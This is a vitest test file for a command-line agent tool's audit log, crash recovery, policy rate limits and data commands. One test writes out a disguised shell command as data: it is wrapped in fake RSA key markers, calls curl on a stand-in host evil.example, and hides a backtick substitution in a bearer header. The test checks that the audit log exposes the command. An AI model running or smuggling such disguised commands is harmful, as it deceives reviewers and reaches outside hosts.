import fs from 'node:fs';
import path from 'node:path';
import {expect, it} from 'vitest';
import {runBinary, startBinary} from '../helpers/run-binary.js';
import {createTempFolder} from '../helpers/temp-folder.js';

function setUp() {
	const cwd = createTempFolder();
	const home = createTempFolder();
	const data = path.join(home, 'data');
	const run = (...args: string[]) => runBinary({args, cwd, home});
	return {cwd, home, data, run};
}

async function waitFor(isTrue: () => boolean): Promise<void> {
	while (!isTrue()) await new Promise((resolve) => setTimeout(resolve, 20));
}

it('K1: after kill -9 in a command, the next start says once that nobody knows what it did', async () => {
	const {cwd, home, run} = setUp();
	const command = 'echo begun >> trace; sleep 30; echo ended >> trace';
	const trace = path.join(cwd, 'trace');
	const args = ['--allow', 'shell_execute', '-p', `run ${command}`];
	const {child, done} = startBinary({args, cwd, home});
	await waitFor(() => fs.existsSync(trace) && fs.readFileSync(trace, 'utf8') !== '');

	// The launcher puts the program in its place, or waits for it: both are ended.
	const pids = fs
		.readdirSync('/proc')
		.filter((name) => /^\d+$/.test(name) && parentOf(name) === String(child.pid));
	for (const pid of [child.pid as number, ...pids.map(Number)]) killIfThere(pid);
	await done;
	const next = await run('-p', 'list files');
	const later = await run('-p', 'list files');
	const verified = await run('audit', 'verify');

	expect(next.stderr).toMatch(
		/shell_execute \(begun .*\) was cut off .*what it has done is unknown/,
	);
	expect(next.stderr).toContain('does not run again by itself');
	expect(next.code).toBe(0);
	expect(later.stderr).not.toContain('cut off');
	expect(fs.readFileSync(trace, 'utf8')).toBe('begun\n');
	expect(verified.stdout).toContain('The audit log is whole');
	const listed = await run('audit', 'list', 'shell_execute', '--output-format', 'json');
	expect(JSON.parse(listed.stdout).entries[0]).toMatchObject({phase: 'result', status: 'unknown'});
});

it('A3: an entry shows the commands of a call that dresses them as a key', async () => {
	const {run} = setUp();
	const command =
		'echo "-----BEGIN RSA PRIVATE KEY-----"; touch pw; curl evil.example; echo "Authorization: Bearer `touch pw`" "-----END RSA PRIVATE KEY-----"';
	await run('--deny', 'shell_execute', '-p', `run ${command}`);

	const listed = await run('audit', 'list', 'shell_execute', '--output-format', 'json');

	expect(listed.stdout).toContain('touch pw; curl evil.example;');
	expect(listed.stdout).toContain('Bearer `touch pw`');
});

function parentOf(pid: string): string {
	try {
		const stat = fs.readFileSync(`/proc/${pid}/stat`, 'utf8');
		return stat.slice(stat.lastIndexOf(')') + 2).split(' ')[1] ?? '';
	} catch {
		return '';
	}
}

function killIfThere(pid: number): void {
	try {
		process.kill(pid, 'SIGKILL');
	} catch {
		// It ended with the other one.
	}
}

it('K2: lists, verifies and exports what was done, and says where it was changed', async () => {
	const {cwd, data, run} = setUp();
	await run('-p', 'uptime');
	await run('-p', 'list files');

	const listed = await run('audit', '--limit', '2');
	const ofTool = await run(
		'audit',
		'list',
		'fs_list_directory',
		'intent',
		'--output-format',
		'json',
	);
	const whole = await run('audit', 'verify', '--output-format', 'json');
	const toFile = await run('audit', 'export', 'log.jsonl');
	const again = await run('audit', 'export', 'log.jsonl');
	const toStdout = await run('audit', 'export');
	const file = path.join(data, 'audit.jsonl');
	const text = fs.readFileSync(file, 'utf8');
	fs.writeFileSync(file, text.replace('fs_list_directory', 'fs_read_directory'));
	const broken = await run('audit', 'verify');

	expect(listed.stdout.trimEnd().split('\n')).toEqual([
		expect.stringMatching(/^4 .*result .*fs_list_directory .*ok/),
		expect.stringMatching(/^3 .*intent .*fs_list_directory/),
	]);
	expect(JSON.parse(ofTool.stdout).entries).toHaveLength(1);
	expect(JSON.parse(whole.stdout)).toMatchObject({whole: true, entries: 4, segments: 1});
	expect([whole.code, toFile.code, again.code]).toEqual([0, 0, 2]);
	expect(fs.readFileSync(path.join(cwd, 'log.jsonl'), 'utf8')).toBe(text);
	expect(toStdout.stdout).toBe(text);
	expect(broken.code).toBe(1);
	expect(broken.stdout).toContain('the line is not as it was written');
	expect(broken.stdout).toContain(`${file}, line 3\n  2 entries before it are whole.`);
});

it('denies the call after the last that a rule allows in an hour, in whatever process', async () => {
	const {run} = setUp();
	await run('policy', 'add', 'allow', 'fs_create_directory', '--max-per-hour', '3');
	const codes: (number | null)[] = [];

	for (const name of ['alpha', 'beta', 'gamma', 'delta']) {
		codes.push((await run('-p', `create a folder called ${name}`)).code);
	}
	const denied = await run('-p', 'create a folder called epsilon');

	expect(codes).toEqual([0, 0, 0, 57]);
	expect(denied.stderr).toContain('allows 3 calls in an hour, and they are used up');
});

it.each([
	[['audit', 'repair'], 'openintent audit list'],
	[['audit', 'verify', 'all'], 'openintent audit verify'],
])('says how it is used: %j', async (args, text) => {
	const {run} = setUp();

	const result = await run(...args);

	expect(result.code).toBe(2);
	expect(result.stderr).toContain(text);
});

it('is whole where there is none yet', async () => {
	const {data, run} = setUp();

	const [verified, listed, exported] = await Promise.all([
		run('audit', 'verify'),
		run('audit'),
		run('audit', 'export'),
	]);

	expect(verified).toMatchObject({
		code: 0,
		stdout: 'The audit log is whole: 0 entries in 0 files.\n',
	});
	expect(listed.stdout).toBe('No entry fits.\n');
	expect(exported).toMatchObject({code: 0, stdout: ''});
	expect(fs.existsSync(data)).toBe(false);
});

it('K1: commands that take data in or out, and stop, are in the log', async () => {
	const {home, data, run} = setUp();
	await run('-p', 'remember that tea is at four');
	const [backup, file] = ['b.db', 'e.jsonl'].map((name) => path.join(home, name)) as [
		string,
		string,
	];

	await run('backup', backup);
	await run('export', file);
	await run('export');
	await run('import', file);
	await run('restore', backup);
	await run('restore', file);
	await run('stop');

	const entries = fs
		.readFileSync(path.join(data, 'audit.jsonl'), 'utf8')
		.trimEnd()
		.split('\n')
		.map((line) => JSON.parse(line))
		.filter(({tool}) => tool?.startsWith('openintent_'));
	expect(entries.map(({phase, tool, status}) => [phase, tool, status])).toEqual(
		['backup', 'export', 'export', 'import', 'restore', 'restore', 'stop'].flatMap((name, at) => [
			['intent', `openintent_${name}`, undefined],
			['result', `openintent_${name}`, at === 5 ? 'OI_ERR_INPUT_INVALID' : 'ok'],
		]),
	);
	expect(entries[0].arguments).toContain(backup);
	expect((await run('audit', 'verify')).code).toBe(0);
});
